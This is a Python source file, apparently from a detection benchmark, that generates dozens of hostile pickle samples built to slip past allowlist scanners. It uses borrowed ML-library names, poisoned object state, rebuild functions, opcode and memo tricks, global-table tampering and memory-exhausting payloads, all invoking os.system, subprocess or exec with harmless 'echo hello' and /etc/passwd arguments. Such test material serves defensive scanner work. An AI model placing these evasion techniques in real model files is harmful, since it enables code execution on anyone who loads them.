"""Pickles that act through names which honest files need, and hide the rest in state.

Each takes something that a list of harmless names holds (a class of an estimator, a
rebuilding function, a container) and makes it fetch, open or call.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from typing import TYPE_CHECKING

from benchmarks.detection.opcodes import (
    Code,
    call,
    dtype,
    fetch,
    fetch_stack,
    instance,
    long_text,
    short_text,
    stream,
    value,
)
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

_SHELL = "echo hello"
_SYSTEM = fetch("os:system")
_ACT = call("os:system", _SHELL)
_TRUE = True


def samples() -> Iterator[Sample]:
    """Give one file for each way."""
    groups = (
        ("borrowed class that acts", _borrowed()),
        ("harmless class, hostile state", _states()),
        ("rebuilding function, hostile argument", _rebuilds()),
        ("one call among honest data", _injected()),
        ("memo and stack", _stacks()),
        ("change of what is shared", _changes()),
        ("chain of harmless functions", _chains()),
        ("harmless names that never end", _endless()),
    )
    for technique, group in groups:
        for name, data in group.items():
            path = "model.pt" if data[:2] == b"PK" else "model.pkl"
            yield Sample(
                name=name,
                family="pickle-evading",
                technique=technique,
                truth=Truth.HOSTILE,
                files={path: data},
            )


def _borrowed() -> dict[str, bytes]:
    """Names that honest modules hold only because they import them."""
    address = ("192.0.2.1", 80)
    made = {
        "client-of-callbacks": call("sklearn.callback._transport:Client", address),
        "listener-of-callbacks": call("sklearn.callback._transport:Listener", address),
        "parallel-of-pipeline": call("sklearn.pipeline:Parallel", 2),
        "memory-of-utilities": call("sklearn.utils.validation:Memory", "/tmp/cache"),  # noqa: S108 - only a text
        "booster-of-estimators": call(
            "xgboost.sklearn:Booster", None, (), "/etc/passwd"
        ),
        "matrix-of-estimators": call("xgboost.sklearn:DMatrix", "/etc/passwd"),
        "dataset-of-estimators": call("lightgbm.sklearn:Dataset", "/etc/passwd"),
        "booster-of-lightgbm": call(
            "lightgbm.sklearn:Booster", None, None, "/etc/passwd"
        ),
        "pool-of-catboost": call("catboost.core:Pool", "/etc/passwd"),
        "visualiser-of-catboost": call(
            "catboost.core:OfflineMetricVisualizer", ["/etc"]
        ),
        "module-through-sklearn": call("sklearn.utils._joblib:Parallel", 2),
        "system-of-datasets": call("sklearn.datasets._base:os.system", _SHELL),
        "exec-of-utilities": call("sklearn.utils.fixes:exec", "print('hello')"),
        "subprocess-of-build": call("sklearn._build_utils:subprocess.call", _SHELL),
        "shutil-of-zenodo": call("imblearn.datasets._zenodo:shutil.rmtree", "/tmp/x"),  # noqa: S108 - only a text
        "path-of-version": call("imblearn._version:Path.unlink", "x"),
        "graph-module-of-quantisation": call(
            "torch.ao.quantization.fx.graph_module:GraphModule", {}, _SHELL
        ),
        "tracer-of-quantisation": call("torch.ao.quantization.quantize_fx:Tracer"),
        "pickle-of-torch": call("torch.nn.modules.module:pickle.loads", b"N."),
        "warnings-of-torch": call("torch.nn.modules.module:warnings.sys.exit", 0),
        "functools-of-torch": call("torch.optim.optimizer:functools.reduce", _SYSTEM),
        "hub-of-models": call("torchvision.models._api:load_state_dict_from_url", "x"),
        "importlib-of-models": call(
            "torchvision.models._api:importlib.import_module", "os"
        ),
        "open-of-trainer": call("transformers.trainer_utils:open", "x", "w"),
        "subprocess-of-trainer": call("transformers.trainer_utils:subprocess", _SHELL),
        "arguments-with-folder": call(
            "transformers.training_args:json.load", "/etc/passwd"
        ),
        "request-of-transforms": call("torchvision.transforms.functional:os.getcwd"),
        "loader-of-layers": call("timm.models._builder:load_checkpoint", "x", "y"),
        "helper-of-models": call("timm.models._helpers:torch.load", "x.pt"),
        "download-of-tasks": call(
            "ultralytics.nn.tasks:attempt_download_asset", "http://192.0.2.1/a.pt"
        ),
        "checkpoint-of-tasks": call("ultralytics.nn.tasks:torch_safe_load", "a.pt"),
        "eval-of-blocks": call("ultralytics.nn.tasks:ast.literal_eval", "1"),
        "parser-of-tasks": call("ultralytics.nn.tasks:parse_model", {"a": _SHELL}, 3),
        "reader-of-vectors": call(
            "gensim.models.keyedvectors:KeyedVectors.load", "/etc/passwd"
        ),
        "utilities-of-vectors": call("gensim.utils:unpickle", "/etc/passwd"),
        "command-of-words": call("gensim.utils:check_output", _SHELL),
        "weka-of-words": call("nltk.classify.weka:java", _SHELL),
        "config-of-weka": call("nltk.classify.weka:config_weka", _SHELL),
        "stanford-of-tags": call("nltk.tag.stanford:StanfordTagger", _SHELL),
        "senna-of-tags": call("nltk.tag.senna:SennaTagger", "/bin/sh"),
        "megam-of-words": call("nltk.classify.megam:call_megam", [_SHELL]),
        "data-of-words": call("nltk.data:load", "pickle:/etc/passwd"),
        "storage-of-studies": call(
            "optuna.storages._rdb.storage:RDBStorage", "sqlite:////tmp/x"
        ),
        "exec-of-stan": call("cmdstanpy.utils.command:do_command", [_SHELL]),
        "compiler-of-stan": call("cmdstanpy.compilation:compile_stan_file", "x.stan"),
        "reader-of-datasets": call("river.datasets.base:FileDataset", "/etc/passwd"),
        "hub-of-transformers": call("transformers.utils.hub:cached_file", "a/b", "c"),
        "hub-creating": call("transformers.utils.hub:create_repo", "a/b"),
        "code-of-transformers": call(
            "transformers.dynamic_module_utils:get_class_from_dynamic_module", "a", "b"
        ),
    }
    return {name: stream(code) for name, code in made.items()}


def _states() -> dict[str, bytes]:
    """Instances whose state fetches what acts, now or when the model is used."""
    partial = call("functools:partial", _SYSTEM)
    late = call("functools:partial", fetch("builtins:exec"), "print('hello')")
    lookup = call("functools:partial", fetch("operator:methodcaller"), "system")
    made = {
        "function-transformer": instance(
            "sklearn.preprocessing._function_transformer:FunctionTransformer",
            {"func": _SYSTEM, "validate": False},
        ),
        "function-transformer-partial": instance(
            "sklearn.preprocessing._function_transformer:FunctionTransformer",
            {"func": late},
        ),
        "metric-of-neighbours": instance(
            "sklearn.neighbors._unsupervised:NearestNeighbors", {"metric": _SYSTEM}
        ),
        "vectoriser-analyser": instance(
            "sklearn.feature_extraction.text:CountVectorizer",
            {"analyzer": fetch("builtins:eval")},
        ),
        "vectoriser-tokeniser": instance(
            "sklearn.feature_extraction.text:TfidfVectorizer",
            {"tokenizer": call("functools:partial", fetch("subprocess:run"))},
        ),
        "scorer": instance(
            "sklearn.metrics._scorer:_Scorer", {"_score_func": partial, "_sign": 1}
        ),
        "objective-of-xgboost": instance(
            "xgboost.sklearn:XGBClassifier", {"objective": _SYSTEM}
        ),
        "booster-with-file": instance(
            "xgboost.core:Booster", {"handle": call("builtins:open", "/etc/passwd")}
        ),
        "hooks-of-module": instance(
            "torch.nn.modules.linear:Linear",
            {"_forward_pre_hooks": call("collections:OrderedDict", [(0, _SYSTEM)])},
        ),
        "load-hook-of-module": instance(
            "torch.nn.modules.container:Sequential",
            {"_load_state_dict_pre_hooks": {0: partial}},
        ),
        "forward-of-module": instance(
            "torch.nn.modules.linear:Identity", {"forward": late}
        ),
        "activation-of-layer": instance(
            "torch.nn.modules.transformer:TransformerEncoderLayer",
            {"activation": fetch("builtins:eval")},
        ),
        "step-of-optimiser": instance(
            "torch.optim.sgd:SGD", {"_patch_step_function": lookup, "param_groups": []}
        ),
        "lambda-of-schedule": instance(
            "torch.optim.lr_scheduler:LambdaLR", {"lr_lambdas": [_SYSTEM]}
        ),
        "transforms": instance(
            "torchvision.transforms.transforms:Compose", {"transforms": [_SYSTEM]}
        ),
        "lambda-of-transforms": instance(
            "torchvision.transforms.transforms:Lambda", {"lambd": late}
        ),
        "detection-model": instance(
            "ultralytics.nn.tasks:DetectionModel", {"yaml": {}, "_apply": _SYSTEM}
        ),
        "arguments-of-training": instance(
            "transformers.training_args:TrainingArguments", {"output_dir": _ACT}
        ),
        "configuration": instance(
            "transformers.models.bert.configuration_bert:BertConfig",
            {"to_dict": partial},
        ),
        "frame-with-attributes": instance(
            "pandas.core.frame:DataFrame",
            {"_typ": "dataframe", "attrs": {"a": _ACT}, "_metadata": []},
        ),
        "grouper-of-frame": instance(
            "pandas.core.series:Series", {"_mgr": call("pandas:eval", "1+1")}
        ),
        "source-of-distribution": instance(
            "scipy.stats._continuous_distns:norm_gen",
            {"_parse_arg_template": "print('hello')", "shapes": call("os:getenv", "A")},
        ),
        "default-of-dictionary": call(
            "collections:defaultdict", fetch("builtins:breakpoint")
        ),
        "default-partial": call("collections:defaultdict", late),
        "metadata-of-type": Code(
            dtype("f8")
            + value((3, "<", None, None, None, -1, -1, 0, ({"a": _ACT}, (1,))))
            + b"b"
        ),
        "generator-with-lock": instance(
            "numpy.random._generator:Generator", {"lock": call("threading:Thread")}
        ),
        "member-of-enumeration": call(
            "torchvision.models.resnet:ResNet50_Weights", _ACT
        ),
        "state-is-pair": instance(
            "sklearn.linear_model._logistic:LogisticRegression", (None, {"C": partial})
        ),
        "state-by-call": Code(
            fetch("sklearn.svm._classes:SVC") + b")\x81" + _ACT + b"b"
        ),
        "setstate-fetched": call(
            call("builtins:getattr", fetch("builtins:object"), "__setattr__"),
            fetch("sklearn.svm:SVC"),
            "fit",
            _SYSTEM,
        ),
        "slots-of-state": instance(
            "argparse:Namespace", ({}, {"__class__": fetch("subprocess:Popen")})
        ),
        "keras-of-skorch": instance(
            "skorch.classifier:NeuralNetClassifier", {"module": _SYSTEM}
        ),
        "tokenizer-with-pickle": instance(
            "transformers.tokenization_utils_fast:PreTrainedTokenizerFast",
            {"_tokenizer": call("pickle:loads", b"N.")},
        ),
    }
    return {name: stream(code) for name, code in made.items()}


def _rebuilds() -> dict[str, bytes]:
    """Functions that rebuild things, given one that does something else."""
    made = {
        "wrapper-subclass": call(
            "torch._utils:_rebuild_wrapper_subclass", _SYSTEM, _SHELL, (), 0, 0
        ),
        "from-type": call(
            "torch._tensor:_rebuild_from_type_v2",
            _SYSTEM,
            fetch("torch:Tensor"),
            (_SHELL,),
            {},
        ),
        "from-type-inner": call(
            "torch._tensor:_rebuild_from_type_v2",
            fetch("torch._utils:_rebuild_parameter"),
            fetch("subprocess:Popen"),
            (_SHELL,),
            {},
        ),
        "parameter-state": call(
            "torch._utils:_rebuild_parameter_with_state", _ACT, _TRUE, {}, {}
        ),
        "device-from-numpy": call(
            "torch._utils:_rebuild_device_tensor_from_numpy", _ACT, 0, "cpu", _TRUE
        ),
        "tensor-of-call": call(
            "torch._utils:_rebuild_tensor_v2", call("torch:load", "x.pt"), 0, (1,), (1,)
        ),
        "storage-of-file": call("torch:FloatStorage.from_file", "/etc/passwd", 0, 9),
        "storage-shared": call(
            "torch:UntypedStorage._new_shared_filename_cpu", b"/tmp/m", b"/x", 8
        ),
        "array-of-popen": call(
            "numpy.core.multiarray:_reconstruct", fetch("subprocess:Popen"), (0,), b"b"
        ),
        "masked-of-system": call(
            "numpy.ma.core:_mareconstruct", _SYSTEM, fetch("numpy:ndarray"), (0,), "b"
        ),
        "buffer-of-system": call(
            "numpy._core.numeric:_frombuffer", _ACT, dtype("f8"), (0,), "C"
        ),
        "ufunc": call("numpy._core:_ufunc_reconstruct", "os", "system"),
        "ufunc-old": call("numpy.core:_ufunc_reconstruct", "posix", "system"),
        "type-of-text": call("numpy._core:_DType_reconstruct", "os.system"),
        "generator-of-system": call("numpy.random._pickle:__generator_ctor", _SYSTEM),
        "bits-of-system": call(
            "numpy.random._pickle:__randomstate_ctor", _SYSTEM, _SYSTEM
        ),
        "index-of-popen": call(
            "pandas.core.indexes.base:_new_Index",
            fetch("subprocess:Popen"),
            {"args": _SHELL},
        ),
        "index-of-date": call(
            "pandas.core.indexes.datetimes:_new_DatetimeIndex", _SYSTEM, {"x": 1}
        ),
        "block-of-call": call("pandas._libs.internals:_unpickle_block", _ACT, 0, 2),
        "offset-of-text": call("pandas._libs.tslibs.offsets:_get_offset", _ACT),
        "distance-of-system": call("sklearn.metrics._dist_metrics:newObj", _SYSTEM),
        "tree-of-metric": call("sklearn.neighbors._kd_tree:KDTree", [[1]], 40, _SYSTEM),
        "reconstructor": call("copyreg:_reconstructor", _SYSTEM, _SYSTEM, _SHELL),
        "newobj": call("copyreg:__newobj__", fetch("subprocess:Popen"), _SHELL),
        "newobj-keywords": call(
            "copyreg:__newobj_ex__", fetch("subprocess:Popen"), (), {"args": _SHELL}
        ),
        "tokenizer-of-call": call("tokenizers:Tokenizer", _ACT),
        "image-of-call": call(
            "torchvision.transforms.functional:InterpolationMode", _ACT
        ),
        "bytes-of-storage": call("torch.storage:_load_from_bytes", stream(_ACT)),
        "compressed-bytes-of-storage": call(
            "torch.storage:_load_from_bytes",
            call("zlib:decompress", zlib.compress(b"N.")),
        ),
        "codec-that-expands": call(
            "_codecs:decode", zlib.compress(stream(_ACT)), "zlib"
        ),
        "codec-of-pickle": call("codecs:lookup", _SHELL),
        "array-of-objects": call(
            "array:_array_reconstructor", fetch("os:system"), "b", 0, b"x"
        ),
        "date-of-system": call("datetime:datetime.strptime", _ACT, "x"),
        "zone-of-file": call("zoneinfo:ZoneInfo.from_file", call("io:open", "x")),
        "keras-of-bytes": call(
            call(
                "builtins:getattr",
                fetch("keras.src.models.sequential:Sequential"),
                "_unpickle_model",
            ),
            call("io:BytesIO", b"PK"),
        ),
        "numba-of-bytes": call(
            "numba.core.serialize:_unpickle__CustomPickled", stream(_ACT)
        ),
        "function-of-code": call(
            "numba.cloudpickle.cloudpickle:_make_function",
            call("marshal:loads", b"N"),
            {},
        ),
        "document-of-hooks": call(
            "spacy.tokens.doc:unpickle_doc",
            fetch("spacy.vocab:Vocab"),
            stream(_ACT),
            b"",
        ),
    }
    return {name: stream(code) for name, code in made.items()}


def _honest() -> list[Code]:
    """Parts of an honest model."""
    made = call(
        "numpy._core.multiarray:_reconstruct", fetch("numpy:ndarray"), (0,), b"b"
    )
    array = Code(
        made + value((1, (2,)))[:-1] + dtype("f8") + b"\x89" + value(bytes(16)) + b"tb"
    )
    return [
        instance(
            "sklearn.linear_model._logistic:LogisticRegression",
            {"C": 1.0, "coef_": array, "classes_": array},
        ),
        value({f"layer.{number}.weight": array for number in range(40)}),
        value({f"token{number}": number for number in range(300)}),
        call("collections:OrderedDict", [(f"k{n}", n) for n in range(30)]),
    ]


def _injected() -> dict[str, bytes]:
    """One call by every form, before, between and behind honest parts."""
    echo = value((_SHELL,))
    forms = {
        "reduce": _SYSTEM + echo + b"R",
        "stack-global": fetch_stack("os:system") + echo + b"R",
        "instance": b"(" + long_text(_SHELL) + b"ios\nsystem\n",
        "object": b"(" + _SYSTEM + long_text(_SHELL) + b"o",
        "new": fetch("subprocess:Popen") + echo + b"\x81",
        "new-keywords": fetch("subprocess:Popen")
        + b")"
        + value({"args": _SHELL})
        + b"\x92",
        "memoised-names": short_text("system")
        + b"\x94"
        + short_text("posix")
        + b"\x94h\x01h\x00\x93"
        + echo
        + b"R",
    }
    files: dict[str, bytes] = {}
    parts = _honest()
    for name, act in forms.items():
        for place in range(len(parts) + 1):
            rows = [*parts[:place], Code(act), *parts[place:]]
            if name == "memoised-names" and place:
                continue
            files[f"{name}-at-{place}"] = stream(Code(b"(" + b"".join(rows) + b"l"))
    inner = stream(Code(b"(" + b"".join([*parts, _ACT]) + b"l"))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("model/data.pkl", inner)
        archive.writestr("model/version", "3\n")
    files["in-archive"] = buffer.getvalue()
    files["behind-stop"] = stream(parts[0]) + inner
    files["in-bytes"] = stream(value({"cache": inner}))
    return files


def _stacks() -> dict[str, bytes]:
    """The call put together by memo and stack games."""
    text = long_text
    made = {
        "swapped-by-memo": text("os")
        + b"q\x05"
        + text("x")
        + b"q\x05"
        + text("posix")
        + b"q\x05"
        + b"000h\x05"
        + text("system")
        + b"\x93"
        + value((_SHELL,))
        + b"R",
        "index-that-is-long": _SYSTEM
        + b"r\xff\xff\x00\x00"
        + b"0j\xff\xff\x00\x00"
        + value((_SHELL,))
        + b"R",
        "index-in-text": _SYSTEM + b"p007\n0g7\n" + value((_SHELL,)) + b"R",
        "duplicate-of-top": _SYSTEM + b"20" + value((_SHELL,)) + b"R",
        "popped-to-mark": _SYSTEM + b"(K\x01K\x021" + value((_SHELL,)) + b"R",
        "tuple-of-name": b"(" + text("os") + text("system") + b"t0" + _ACT,
        "name-of-dotted-path": call("builtins:str.__class__.__base__.__subclasses__"),
        "attribute-through-type": fetch("collections:OrderedDict.__init__.__globals__")
        + b".",
        "list-that-is-called": b"]"
        + _SYSTEM
        + b"a0"
        + _SYSTEM
        + value((_SHELL,))
        + b"R",
        "extension": b"\x82\x01" + value((_SHELL,)) + b"R",
        "extension-wide": b"\x84\x01\x00\x00\x00" + value((_SHELL,)) + b"R",
        "persistent-that-is-called": value("x") + b"Q" + value((_SHELL,)) + b"R",
        "persistent-in-text": b"Pos.system\n" + value((_SHELL,)) + b"R",
        "dictionary-of-calls": b"}(" + text("a") + _ACT + b"u",
        "set-of-calls": b"\x8f(" + _ACT + b"\x90",
        "name-in-two-lines": b"cos\nsystem \n" + value((_SHELL,)) + b"R" + _ACT,
        "module-of-package": fetch("os.path:os.system") + value((_SHELL,)) + b"R",
        "buffer-that-is-called": b"\x97" + value((_SHELL,)) + b"R",
    }
    return {name: stream(Code(code), protocol=4) for name, code in made.items()}


def _changes() -> dict[str, bytes]:
    """Classes, modules and tables that loading changes for everybody."""
    made = {
        "method-of-class": Code(
            fetch("sklearn.svm._classes:SVC")
            + b"N"
            + value({"fit": _SYSTEM})
            + b"\x86b"
        ),
        "table-of-metrics": Code(
            fetch("sklearn.metrics.pairwise:PAIRWISE_DISTANCE_FUNCTIONS")
            + long_text("euclidean")
            + _SYSTEM
            + b"s"
        ),
        "table-of-links": Code(
            fetch("sklearn._loss.link:_LINKS")
            + b"("
            + long_text("logit")
            + _SYSTEM
            + b"u"
        ),
        "list-of-names": Code(
            fetch("sklearn.svm._base:LIBSVM_IMPL") + long_text("x") + b"a"
        ),
        "class-of-torch": Code(
            fetch("torch.nn.modules.linear:Linear")
            + b"N"
            + value({"forward": 1})
            + b"\x86b"
        ),
        "table-of-generators": Code(
            fetch("numpy.random._pickle:BitGenerators")
            + long_text("MT19937")
            + _SYSTEM
            + b"s"
        ),
        "modules": Code(fetch("sys:modules") + long_text("json") + b"Ns"),
        "environment": Code(
            fetch("os:environ") + long_text("PATH") + long_text("x") + b"s"
        ),
        "registry-of-copies": call("copyreg:pickle", fetch("builtins:int"), _SYSTEM),
        "attribute-by-name": call(
            "builtins:setattr", fetch("torch.nn:Linear"), "forward", _SYSTEM
        ),
        "update-of-dictionary": call(
            "builtins:dict.update", fetch("sklearn._loss.link:_LINKS"), {"a": 1}
        ),
    }
    return {name: stream(code) for name, code in made.items()}


def _chains() -> dict[str, bytes]:
    """Functions that are harmless alone, given each other."""
    getter = call("operator:attrgetter", "system")
    made = {
        "iterator-of-partial": call(
            "builtins:list",
            call("builtins:iter", call("functools:partial", _SYSTEM, _SHELL), 0),
        ),
        "sorted-by-function": Code(
            fetch("builtins:sorted")
            + value(([_SHELL],))
            + value({"key": _SYSTEM})
            + b"\x92"
        ),
        "largest-by-function": Code(
            fetch("builtins:max")
            + value(([_SHELL],))
            + value({"key": _SYSTEM})
            + b"\x92"
        ),
        "class-of-three": call(
            "builtins:type", "X", (fetch("builtins:dict"),), {"__missing__": _SYSTEM}
        ),
        "class-with-key": call(
            call("builtins:type", "X", (fetch("builtins:dict"),), {"get": 1})
        ),
        "partial-of-getattr": call(
            "functools:partial",
            call("functools:partial", fetch("builtins:getattr")),
            "a",
        ),
        "attribute-then-call": call(
            call("builtins:getattr", fetch("builtins:str"), "__class__"), "X"
        ),
        "getter-of-module": call(getter, fetch("os:path")),
        "union-that-reduces": call("functools:reduce", _SYSTEM, [_SHELL, 1]),
        "cached": call("functools:cached_property", _SYSTEM),
        "wraps": call("functools:wraps", _SYSTEM),
        "vectorised": call(call("numpy:vectorize", _SYSTEM), [_SHELL]),
        "applied": call("numpy:apply_along_axis", _SYSTEM, 0, [[1]]),
        "from-function": call("numpy:fromfunction", _SYSTEM, (1,)),
        "query-of-frame": call(
            "pandas:DataFrame.query", call("pandas:DataFrame"), "a==1"
        ),
        "eval-of-frame": call("pandas.core.frame:DataFrame.eval", 1, "@pd.io"),
        "pipe-of-frame": call(
            "pandas:DataFrame.pipe", call("pandas:DataFrame"), _SYSTEM
        ),
        "apply-of-series": call("pandas.core.series:SeriesApply", 1, _SYSTEM),
        "map-of-module": call("torch.nn:Module.apply", 1, _SYSTEM),
        "template": call("string:Template.substitute", "${a}", {"a": _ACT}),
        "format-walk": call("builtins:str.format", "{0.__class__.__init__}", 1),
        "sum-of-lists": call("builtins:sum", [[_ACT]], []),
        "counter-of-calls": call("collections:Counter", [_ACT]),
        "chain-of-iterators": call(
            "builtins:list", call("itertools:starmap", _SYSTEM, [(_SHELL,)])
        ),
        "default-then-item": Code(
            call("collections:defaultdict", _SYSTEM) + long_text("a") + b"Ns"
        ),
    }
    return {name: stream(code) for name, code in made.items()}


def _endless() -> dict[str, bytes]:
    """Harmless names, given what takes all memory or all time."""
    most, wide = 2**31 - 1, 2**30
    numbers, endless = call("builtins:range", most), call("itertools:count")
    made = {
        "product": call("itertools:product", numbers),
        "combinations": call("itertools:combinations", numbers, 2),
        "permutations": call("itertools:permutations", numbers),
        "copies-of-iterator": call("itertools:tee", endless, most),
        "dictionary-of-pairs": call("builtins:dict", call("builtins:zip", endless)),
        "dictionary-of-numbers": call(
            "builtins:dict", call("builtins:enumerate", endless)
        ),
        "list-of-user": call("collections:UserList", endless),
        "set-of-reversed": call(
            "builtins:frozenset", call("builtins:reversed", numbers)
        ),
        "fraction-with-exponent": call("fractions:Fraction", "1e999999999"),
        "storage": call("torch:FloatStorage", most),
        "storage-without-type": call("torch.storage:UntypedStorage", most),
        "tensor": call("torch:FloatTensor", wide, wide),
        "layer": call("torch.nn.modules.linear:Linear", 10**6, 10**6),
        "records": call("numpy:recarray", (most,), dtype("f8")),
        "texts": call("numpy:chararray", (most,)),
        "sparse": call("scipy.sparse._csr:csr_matrix", (most, most)),
        "series": call("pandas:Series", numbers),
        "index": call("pandas.core.indexes.base:Index", numbers),
        "array": call("array:array", "b", numbers),
    }
    return {f"endless-{name}": stream(code) for name, code in made.items()}
